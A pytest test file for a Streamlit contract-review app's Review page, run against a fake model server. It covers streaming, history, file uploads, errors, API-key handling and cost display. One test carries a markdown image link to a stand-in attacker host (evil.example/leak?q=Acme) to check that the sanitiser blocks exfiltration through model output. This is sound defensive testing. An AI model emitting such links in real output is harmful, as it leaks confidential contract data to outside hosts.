"""The Review page (app.py) through Streamlit's AppTest, against the fake upstream over HTTP."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest
from docx import Document as DocxDocument
from streamlit.testing.v1 import AppTest

from devtools.fake_upstream import FakeUpstream, Script
from devtools.sample_files import docx_bytes, pdf_bytes
from lib.analysis.safe_markdown import safe_markdown
from lib.analysis.samples import load_sample
from lib.engine.provider_config import Provider
from lib.engine.run_stats import RunStatus
from lib.runs.exports import report_docx
from lib.store.records import STATE_KEY

# The discard port: refused at once (a freed ephemeral port may be reused by the next server).
NOTHING_LISTENS = "http://127.0.0.1:9"
APP = str(Path(__file__).resolve().parent.parent / "app.py")
CONTRACT = "1. Parties. Acme Ltd (Supplier) and Beta GmbH (Customer).\n12.1 The Supplier's liability is unlimited."
KEY = "fake-ant-api03-PAGE-TEST-KEY-do-not-leak-42"


@pytest.fixture
def env(fake_upstream: FakeUpstream, tmp_path, monkeypatch):
    for name in ("ANTHROPIC_API_KEY", "OPENAI_BASE_URL", "OPENAI_API_KEY", "CRS_ALLOWED_ENDPOINTS"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("OLLAMA_HOST", fake_upstream.url)
    monkeypatch.setenv("CRS_HISTORY_DB", str(tmp_path / "history.sqlite3"))
    monkeypatch.setenv("CRS_READ_TIMEOUT", "2")
    monkeypatch.setenv("CRS_BUILTIN", "off")
    return fake_upstream


def app() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=30)
    at.run()
    assert not at.exception
    return at


def paste_and_review(at: AppTest, text: str = CONTRACT) -> AppTest:
    at.text_area(key="review_text").input(text)
    at.run()
    at.button(key="review").click().run()
    assert not at.exception, at.exception
    return at


def records(at: AppTest):
    return at.session_state[STATE_KEY]


def all_text(at: AppTest) -> str:
    parts = [m.value for m in at.markdown] + [c.value for c in at.caption]
    parts += (
        [e.value for e in at.error] + [w.value for w in at.warning] + [i.value for i in at.info]
    )
    return "\n".join(parts)


def test_paste_review_streams_report_and_records_history(env):
    words = [f" word{i}" for i in range(40)]
    env.push(Script(tokens=["## Overall risk: HIGH\n", *words]))
    at = paste_and_review(app())
    report = "## Overall risk: HIGH\n" + "".join(words)
    assert any(m.value.strip() == safe_markdown(report).strip() for m in at.markdown)
    (record,) = records(at)
    assert record.status == "done" and record.report == report
    assert record.output_tokens == 41 and record.tokens_reported
    body = env.streams()[-1].body
    assert record.input_tokens == max(
        1, len(json.dumps(body["messages"])) // 4
    )  # as the fake reports it
    assert CONTRACT in body["messages"][1]["content"]
    table = at.dataframe[0].value
    # The status as the page words it everywhere ("complete", "stopped"), not the log's id.
    assert list(table["status"]) == ["complete"] and list(table["output_tokens"]) == [41]
    assert table["counts"].iloc[0] == "reported"
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Output tokens"] == "41"
    assert any("Token counts reported by the provider" in c.value for c in at.caption)
    assert [b.label for b in at.get("download_button")][:2] == [
        "Download Markdown",
        "Download Word",
    ]


def test_history_survives_reruns_and_is_newest_first(env):
    at = paste_and_review(app())
    env.push(Script(tokens=[" second"]))
    at.button(key="review").click().run()
    table = at.dataframe[0].value
    assert len(table) == 2
    assert table["time"].iloc[0] >= table["time"].iloc[1]
    at.run()
    assert len(at.dataframe[0].value) == 2


def test_empty_contract_asks_for_one_and_sends_nothing(env):
    at = app()
    at.button(key="review").click().run()
    assert "Paste a contract or upload a file first" in all_text(at)
    assert env.streams() == []
    assert records(at) == []


@pytest.mark.parametrize(
    ("name", "data", "expected", "mime"),
    [
        (
            "msa.pdf",
            pdf_bytes(
                [
                    "Master Services Agreement between Acme and Beta.",
                    "Clause 9: Société confidentiality.",
                ]
            ),
            "Clause 9: Société confidentiality.",
            "application/pdf",
        ),
        (
            "lease.docx",
            docx_bytes(["Lease of premises at 1 High Street.", [["Rent", "€2,000 per month"]]]),
            "Rent | €2,000 per month",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
    ],
)
def test_upload_extracts_text_and_reviews_it(env, name, data, expected, mime):
    at = app()
    at.radio[0].set_value("Upload a file").run()
    at.file_uploader[0].set_value((name, data, mime)).run()
    assert not at.exception
    assert any(expected in t.value for t in at.text)
    at.button(key="review").click().run()
    assert expected in env.streams()[-1].body["messages"][1]["content"]
    assert records(at)[0].document_name == name


BAD_FILES = [
    ("scan.pdf", b"%PDF-1.4 broken", "damaged"),
    ("empty.txt", b"", "empty"),
    ("binary.txt", bytes(range(256)) * 4, "binary"),
    ("contract.docx", b"not a zip file", "not a valid Word"),
]


@pytest.mark.parametrize(("name", "data", "fragment"), BAD_FILES)
def test_bad_files_give_a_clear_message_and_the_app_keeps_working(env, name, data, fragment):
    at = app()
    at.radio[0].set_value("Upload a file").run()
    at.file_uploader[0].set_value((name, data, "application/octet-stream")).run()
    assert not at.exception
    assert any(fragment in e.value for e in at.error)
    at.button(key="review").click().run()
    assert env.streams() == []  # nothing was sent
    at.radio[0].set_value("Paste text").run()
    paste_and_review(at)
    assert records(at)[0].status == "done"


def test_a_refused_file_or_an_emptied_box_leaves_no_contract_to_review(env):
    """The red error is not enough: Review went on to review the contract that was there
    before, and recorded it, while the analyst believed they had replaced it."""
    at = app()
    at.radio[0].set_value("Upload a file").run()
    at.file_uploader[0].set_value(("msa.txt", CONTRACT.encode(), "text/plain")).run()
    at.file_uploader[0].set_value(("liar.pdf", b"plain text, not a PDF", "application/pdf")).run()
    assert any("PDF" in e.value for e in at.error)
    at.button(key="review").click().run()
    assert "Paste a contract or upload a file first" in all_text(at)
    at.radio[0].set_value("Paste text").run()
    at.text_area(key="review_text").input(CONTRACT).run()
    at.text_area(key="review_text").input("").run()
    at.button(key="review").click().run()
    assert "Paste a contract or upload a file first" in all_text(at)
    assert env.streams() == [] and records(at) == []


def test_switching_to_an_empty_paste_box_does_not_review_the_file_read_before(env):
    """With "Paste text" chosen and its box visibly empty, Review reviewed the file uploaded
    before; switching back to the upload brings that file back."""
    at = app()
    at.radio[0].set_value("Upload a file").run()
    at.file_uploader[0].set_value(("msa.txt", CONTRACT.encode(), "text/plain")).run()
    assert "read earlier" not in all_text(at)  # the box shows the file itself
    at.radio[0].set_value("Paste text").run()
    at.button(key="review").click().run()
    assert "Paste a contract or upload a file first" in all_text(at)
    assert env.streams() == []
    assert "read earlier" not in all_text(at)
    at.radio[0].set_value("Upload a file").run()
    # The box is empty again (Streamlit cannot refill it): the page names the file in use.
    assert "Reviewing msa.txt, read earlier" in all_text(at)
    env.push(Script(tokens=[" ok"]))
    at.button(key="review").click().run()
    assert [r.document_name for r in records(at)] == ["msa.txt"]


def test_coming_back_to_the_page_keeps_the_contract_entered_there(env):
    """Streamlit empties a page's boxes when the analyst leaves it: that is not the analyst
    emptying them, and the contract must stay for every page."""
    at = app()
    at.text_area(key="review_text").input(CONTRACT).run()
    at.switch_page("pages/compare.py").run()
    assert not at.exception, at.exception
    at.switch_page("app.py").run()
    assert not at.exception, at.exception
    env.push(Script(tokens=[" ok"]))
    at.button(key="review").click().run()
    assert records(at) and records(at)[0].document_name == "Pasted contract"


def test_coming_back_keeps_what_the_analyst_typed_and_sends_it(env):
    """The contract was kept across pages while the side they review for, their instructions,
    the template and the pasted text itself came back empty or default: the next run went out
    with the default instructions and nothing on the page said so."""
    at = app()
    at.text_area(key="review_text").input(CONTRACT).run()
    at.selectbox(key="review_template").select("nda").run()
    at.text_input(key="review_perspective").input("the customer").run()
    at.text_area(key="instructions_nda").input("ONLY LOOK AT PAYMENT.").run()
    at.switch_page("pages/history.py").run()
    at.switch_page("app.py").run()
    assert not at.exception, at.exception
    assert at.text_area(key="review_text").value == CONTRACT
    assert at.selectbox(key="review_template").value == "nda"
    assert at.text_input(key="review_perspective").value == "the customer"
    assert at.text_area(key="instructions_nda").value == "ONLY LOOK AT PAYMENT."
    env.push(Script(tokens=[" ok"]))
    at.button(key="review").click().run()
    (sent,) = [json.dumps(r.body) for r in env.streams()]
    assert "ONLY LOOK AT PAYMENT." in sent and "the customer" in sent


def test_coming_back_keeps_the_model_and_settings_picked_by_hand(env, monkeypatch):
    """The provider came back as the default one (Claude, with an operator key), so the next
    review sent the contract to Anthropic after the analyst had picked a local model; the
    output cap and thinking switch came back as defaults too."""
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)
    monkeypatch.setenv("ANTHROPIC_BASE_URL", env.url)
    at = app()
    assert at.sidebar.selectbox(key="review_provider").value == "anthropic"  # the default
    at.sidebar.selectbox(key="review_provider").set_value("ollama").run()
    at.sidebar.number_input(key="review_max_tokens").set_value(3000).run()
    at.sidebar.radio(key="review_thinking_ollama").set_value(True).run()
    at.text_area(key="review_text").input(CONTRACT).run()
    at.switch_page("pages/history.py").run()
    at.switch_page("app.py").run()
    assert not at.exception, at.exception
    assert at.sidebar.selectbox(key="review_provider").value == "ollama"
    assert at.sidebar.number_input(key="review_max_tokens").value == 3000
    assert at.sidebar.radio(key="review_thinking_ollama").value is True
    env.push(Script(tokens=[" ok"]))
    at.button(key="review").click().run()
    (request,) = env.streams()
    assert request.path == "/api/chat" and request.body["options"]["num_predict"] == 3000
    assert request.body["think"] is True


def test_the_clause_finders_report_names_the_side_typed_and_that_rules_take_none(env):
    at = app()
    at.sidebar.selectbox(key="review_provider").set_value("clause_finder").run()
    at.text_input(key="review_perspective").input("the  customer").run()
    paste_and_review(at)
    (record,) = records(at)
    assert "Reviewing for: the customer (the clause finder reads each clause the same" in (
        record.report
    )


def test_a_contract_chosen_on_another_page_since_is_not_replaced_by_this_pages_old_input(env):
    other = "1. Parties. Gamma Inc and Delta LLC.\n9. Liability is capped at the fees paid."
    at = app()
    at.text_area(key="review_text").input(CONTRACT).run()
    at.switch_page("pages/compare.py").run()
    at.text_area(key="compare_text").input(other).run()
    at.switch_page("app.py").run()
    assert not at.exception, at.exception
    env.push(Script(tokens=[" ok"]))
    at.button(key="review").click().run()
    (sent,) = [json.dumps(r.body) for r in env.streams()]
    assert "Gamma Inc" in sent and "Acme Ltd" not in sent


ERROR_CASES = [
    (Script(status=404), "model_not_found", "Model not found", False),
    (Script(status=429), "rate_limited", "busy or rate limiting", False),
    (Script(status=500), "bad_response", "HTTP 500", False),
    (Script(fault="context"), "context_too_long", "does not fit", False),
    (
        Script(tokens=[f" w{i}" for i in range(10)], fault="drop", fault_after=5),
        "interrupted",
        "closed the connection",
        True,
    ),
    (
        Script(tokens=[f" w{i}" for i in range(10)], fault="stall", fault_after=5),
        "timed_out",
        "stopped sending",
        True,
    ),
    (
        Script(tokens=[f" w{i}" for i in range(10)], fault="malformed", fault_after=5),
        "bad_response",
        "not JSON",
        True,
    ),
]


@pytest.mark.parametrize(("script", "kind", "fragment", "partial"), ERROR_CASES)
def test_errors_show_a_message_keep_partial_text_and_record_error(
    env, script, kind, fragment, partial
):
    env.push(script)
    at = paste_and_review(app())
    (record,) = records(at)
    assert record.status == "error" and record.error_kind == kind
    assert any(fragment in e.value for e in at.error), [e.value for e in at.error]
    if partial:
        assert record.report == " w0 w1 w2 w3 w4"
        assert any(m.value.strip() == "w0 w1 w2 w3 w4" for m in at.markdown)
        (message,) = [e.value for e in at.error if "partial report" in e.value]
        assert message.count("partial report") == 1, message
    assert at.dataframe[0].value["status"].iloc[0] == "failed"


def test_unreachable_ollama_shows_the_fix(env, monkeypatch):
    monkeypatch.setenv("OLLAMA_HOST", NOTHING_LISTENS)
    at = app()
    at.sidebar.selectbox(key="review_provider").set_value(Provider.OLLAMA).run()
    assert any("ollama serve" in w.value for w in at.sidebar.warning)
    paste_and_review(at)
    assert "Choose an available model" in all_text(at)


def test_claude_key_typed_for_the_session_is_used_and_never_shown(env, monkeypatch):
    monkeypatch.setenv("ANTHROPIC_BASE_URL", env.url)
    at = app()
    at.sidebar.selectbox(key="review_provider").set_value("anthropic").run()
    assert any(
        "set ANTHROPIC_API_KEY" in w.value or "No API key" in w.value for w in at.sidebar.warning
    )
    at.sidebar.text_input(key="review_api_key_anthropic").input(KEY).run()
    assert "sent to Anthropic" in "\n".join(c.value for c in at.sidebar.caption)
    env.push(Script(tokens=[" Claude", " says"]))
    paste_and_review(at)
    request = env.streams()[-1]
    assert KEY in (
        request.headers.get("x-api-key", ""),
        request.headers.get("authorization", "").removeprefix("Bearer "),
    )
    (record,) = records(at)
    assert (
        record.status == "done" and record.provider == "anthropic" and record.cost_usd is not None
    )
    page_text = all_text(at) + "".join(str(m.value) for m in at.metric)
    assert KEY not in page_text and KEY not in repr(record)
    assert KEY.encode() not in Path(env_db(monkeypatch)).read_bytes()


def env_db(monkeypatch) -> str:
    import os

    return os.environ["CRS_HISTORY_DB"]


def test_allowed_endpoints_lock_the_base_url(env, monkeypatch):
    monkeypatch.setenv("CRS_ALLOWED_ENDPOINTS", env.url)
    at = app()
    assert not at.sidebar.text_input  # no free-form URL in a locked deployment
    assert at.sidebar.selectbox(key="review_endpoint_ollama").options == [env.url]


def test_reopening_a_past_report(env):
    env.push(Script(tokens=[" first", " report"]), Script(tokens=[" second", " report"]))
    at = paste_and_review(app())
    at.button(key="review").click().run()
    first = records(at)[0]
    at.session_state["shown_run_id"] = first.run_id
    at.run()
    assert any(m.value.strip() == "first report" for m in at.markdown)


def test_with_no_model_reachable_the_clause_finder_reviews_a_sample(env, monkeypatch):
    monkeypatch.setenv("OLLAMA_HOST", NOTHING_LISTENS)
    at = app()
    assert at.sidebar.selectbox(key="review_provider").value == Provider.CLAUSE_FINDER
    at.radio(key="review_source").set_value("Try a sample contract").run()
    sample = load_sample(at.selectbox(key="review_sample").value)
    at.button(key="review").click().run()
    assert not at.exception, at.exception
    (record,) = records(at)
    assert record.status == "done" and record.provider == "clause_finder"
    # It writes its report at once: no time to first token or speed, here or in any table.
    assert record.ttft_s is None and record.tokens_per_s is None
    assert record.report.startswith("# Contract review:")
    quotes = re.findall(r'"([^"\n]{20,})"', record.report)
    assert quotes and all(q in sample.text for q in quotes)
    assert any("No language model was used" in c.value for c in at.caption)
    assert env.streams() == []


def test_a_control_character_in_the_report_leaves_the_view_and_downloads_working(env, downloads):
    env.push(Script(tokens=["## Liability\n", "- “liabil\x02ity is unlimited”"]))
    at = paste_and_review(app())
    assert not at.exception
    (record,) = records(at)
    assert record.report.endswith("liabil\x02ity is unlimited”")
    buttons = {b.label: b for b in at.get("download_button")}
    markdown = downloads.of(buttons["Download Markdown"]).data.decode()
    assert "## Liability\n\n- “liability is unlimited”" in markdown
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", markdown)
    # The Word file is built on click, which AppTest cannot do: built here from the same record.
    word = DocxDocument(io.BytesIO(report_docx(record))).paragraphs
    assert [p.text for p in word][1:] == ["Liability", "“liability is unlimited”"]
    assert "Download Word" in buttons
    at.run()
    assert not at.exception


def test_pasting_more_than_the_cap_says_so_and_reviews_nothing(env, monkeypatch):
    monkeypatch.setenv("CRS_MAX_PASTE_CHARS", "50")
    at = app()
    at.text_area(key="review_text").input("x" * 60).run()
    assert "60 characters; the limit is 50" in all_text(at).replace("\\", "")  # Markdown escapes
    at.button(key="review").click().run()
    assert not records(at) and env.streams() == []


def test_thinking_is_folded_apart_sanitised_and_out_of_the_report_and_downloads(env):
    """Thinking is model output: drawn through the sanitiser like the report (a remote image in it
    must not load), folded above the report, and never in the report or its downloads."""
    hostile = "Let me think. ![x](https://evil.example/leak?q=Acme) then clause 12.1."
    env.push(
        Script(thinking=[hostile[:20], hostile[20:]], tokens=["## Overall risk: HIGH\n", "ok"])
    )
    at = paste_and_review(app())
    (record,) = records(at)
    assert record.thinking == hostile and record.report == "## Overall risk: HIGH\nok"
    (panel,) = [e for e in at.expander if e.label.startswith("Thought")]
    shown = "\n".join(m.value for m in panel.markdown)
    assert "![" not in shown and "image not loaded" in shown
    assert shown.strip() == safe_markdown(hostile).strip()
    assert all("Let me think" not in m.value for m in at.markdown if m not in panel.markdown)
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Time to first answer token"] != "—" and metrics["Thinking tokens"].startswith(
        "~"
    )
    table = at.dataframe[0].value
    assert table["thinking_tokens"].iloc[0].startswith("~")
    download = at.get("download_button")[0]
    assert "Let me think" not in str(download.proto)


@pytest.mark.parametrize(
    ("report", "thinking", "said"),
    [
        ("## Overall", "", "the partial report above is kept"),
        ("", " weighing clause 4", "the model was still thinking; its thinking so far is kept"),
        ("", "", "the model had not begun the report"),
    ],
)
def test_a_stopped_run_says_what_was_kept(make_record, report, thinking, said):
    """ "The partial report above is kept" with nothing above it sent analysts looking for it."""

    def page(record) -> None:
        from lib.ui.report_view import run_outcome

        run_outcome(record)

    record = make_record(status=RunStatus.CANCELLED, report=report, thinking=thinking)
    at = AppTest.from_function(page, args=(record,)).run()
    (warning,) = [w.value for w in at.warning]
    assert warning.startswith(f"Stopped — {said}.") and "page is left or reloaded" in warning


def test_a_setting_that_does_not_parse_is_named_on_the_page(env, monkeypatch):
    monkeypatch.setenv("CRS_MAX_PAGES", "fifty")
    at = AppTest.from_file(APP, default_timeout=30).run()
    assert not at.exception
    shown = [e.value.replace("\\", "") for e in at.error]
    assert any("CRS_MAX_PAGES must be a number above 0, not 'fifty'" in e for e in shown)


@pytest.mark.parametrize(
    ("provider", "model", "cost", "said"),
    [
        ("ollama", "llama3.2", 0.0, "Cost: none (no per-token price)."),
        # An operator's price for a model on an OpenAI-compatible server: it was left unsaid.
        ("openai", "llama3.2", 0.0102, "Estimated cost: $0.0102."),
        ("anthropic", "claude-sonnet-5-5", 0.01, "Estimated cost: $0.0100."),
        ("anthropic", "claude-new", None, "Estimated cost: unknown price."),
        # Not yet priced (a run the app stopped): a local model still costs nothing.
        ("ollama", "llama3.2", None, "Cost: none (no per-token price)."),
        # Refused before answering: not billed ("Estimated cost: $0.0000" beside 1,142 tokens).
        ("anthropic", "claude-sonnet-5-5", 0.0, "Cost: none (the provider answered nothing"),
    ],
)
def test_a_runs_cost_reads_the_same_under_the_report_and_in_compare(
    make_record, provider, model, cost, said
):
    from lib.runs.compare import COST_ROW, display_table

    def page(record) -> None:
        from lib.ui.report_view import final_figures

        final_figures(record)

    record = make_record(provider=provider, model=model, cost_usd=cost, status="done")
    at = AppTest.from_function(page, args=(record,)).run()
    caption = " ".join(c.value for c in at.caption).replace("\\", "")
    assert said in caption
    shown = said.removeprefix("Estimated cost: ").removeprefix("Cost: ").split(" (")[0]
    assert display_table([record, record]).loc[COST_ROW].tolist() == [shown.rstrip(".")] * 2


def test_a_finished_report_says_a_quick_thought_took_under_a_second(make_record):
    """The live line said "under a second", the finished report's panel "Thought for 0 s"."""

    def page(record) -> None:
        from lib.ui.report_view import thinking_panel

        thinking_panel(record, frozenset())

    record = make_record(status="done", thinking="weigh it", thinking_s=0.004, report="ok")
    at = AppTest.from_function(page, args=(record,)).run()
    assert [e.label for e in at.expander] == ["Thought for under a second"]


def test_cached_input_tokens_are_shown_beside_the_cost_they_explain(make_record):
    from lib.runs.compare import display_table

    def page(record) -> None:
        from lib.ui.report_view import final_figures

        final_figures(record)

    claude = make_record(
        provider="anthropic", model="claude-sonnet-5-5", input_tokens=10_804, output_tokens=167,
        cache_read_tokens=10_342, cache_write_tokens=0, cost_usd=0.007, status="done",
    )  # fmt: skip
    at = AppTest.from_function(page, args=(claude,)).run()
    caption = " ".join(c.value for c in at.caption).replace("\\", "")
    assert (
        "Of the input tokens, 10,342 read from the prompt cache (billed at 0.1× the input"
        in caption
    )
    local = make_record(provider="ollama", model="llama3.2", cost_usd=0.0, status="done")
    at = AppTest.from_function(page, args=(local,)).run()
    assert "prompt cache" not in " ".join(c.value for c in at.caption)
    table = display_table([claude, local])
    assert table.loc["… read from the prompt cache"].tolist() == ["10,342", "—"]


def test_an_error_of_a_kind_this_version_does_not_know_is_shown_not_raised(make_record):
    """A row another version wrote: the banner raised ValueError on the unknown kind."""

    def page(record) -> None:
        from lib.ui.report_view import run_outcome

        run_outcome(record)

    record = make_record(status="error", error_kind="quota_exhausted", error_message="Spent.")
    at = AppTest.from_function(page, args=(record,)).run()
    assert not at.exception
    (banner,) = [e.value for e in at.error]
    assert banner.startswith("**Error.** Spent")
    assert "report failed (Error: Spent)" in report_markdown_text(record)


def report_markdown_text(record) -> str:
    from lib.runs.exports import report_markdown

    return report_markdown(record).decode().replace("\\", "")


SECRET_KEY = "sk-from-the-secrets-file-0123456789"


def test_a_secrets_file_key_is_not_taken_for_the_environments_on_the_pages(
    env, tmp_path, monkeypatch
):
    """Streamlit copies the secrets file's top-level values into the environment: the file's key
    then passed for one set beside the operator's own endpoint, and was sent there (the API and
    `crs-batch` refused the same set-up)."""
    from lib.engine.settings import operator_environment

    monkeypatch.chdir(tmp_path)
    (tmp_path / ".streamlit").mkdir()
    (tmp_path / ".streamlit" / "secrets.toml").write_text(f'OPENAI_API_KEY = "{SECRET_KEY}"\n')
    monkeypatch.setenv("OPENAI_BASE_URL", f"{env.url}/v1")
    monkeypatch.setenv("OPENAI_API_KEY", SECRET_KEY)  # what Streamlit does with the file
    monkeypatch.setattr("lib.engine.settings._STARTED_WITH", {"OPENAI_BASE_URL": env.url})
    at = AppTest.from_file(APP, default_timeout=30)
    at.secrets["OPENAI_API_KEY"] = SECRET_KEY
    at.run()
    shown = " ".join(e.value for e in at.error).replace("\\", "")
    assert "OPENAI_API_KEY comes from .streamlit/secrets.toml but OPENAI_BASE_URL" in shown
    assert env.requests == [], "the page stops before any model server is asked anything"
    # A value the file changed is given back its value at start, or dropped.
    started = {"OPENAI_BASE_URL": "http://env:1"}
    promoted = {"OPENAI_BASE_URL": "http://file:1", "OPENAI_API_KEY": SECRET_KEY, "n": 3}
    polluted = {"OPENAI_BASE_URL": "http://file:1", "OPENAI_API_KEY": SECRET_KEY, "n": "3"}
    assert operator_environment(promoted, polluted, started) == {"OPENAI_BASE_URL": "http://env:1"}


def test_a_secrets_file_that_cannot_be_read_stops_the_page_as_it_stops_the_api(
    env, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".streamlit").mkdir()
    (tmp_path / ".streamlit" / "secrets.toml").write_text('OPENAI_API_KEY = "sk-unterminated\n')
    at = AppTest.from_file(APP, default_timeout=30).run()
    shown = " ".join(e.value for e in at.error).replace("\\", "")
    assert "secrets.toml cannot be read" in shown


def test_a_run_that_ends_is_the_next_estimates_pace_at_once(env):
    """After a run the estimate still said "no earlier runs of this model" for up to 5
    minutes: it was kept for as long as the model's context window is."""

    def estimate(at: AppTest) -> str:
        return next(c.value for c in at.caption if c.value.startswith("Estimate:"))

    at = app()
    at.text_area(key="review_text").input(CONTRACT).run()
    assert "no earlier runs of this model" in estimate(at)
    env.push(Script(tokens=[f" word{i}" for i in range(40)], delay=0.01))
    at.button(key="review").click().run()
    (record,) = records(at)
    assert record.status == "done" and record.tokens_per_s
    at.run()
    assert "(from 1 earlier run)" in estimate(at)
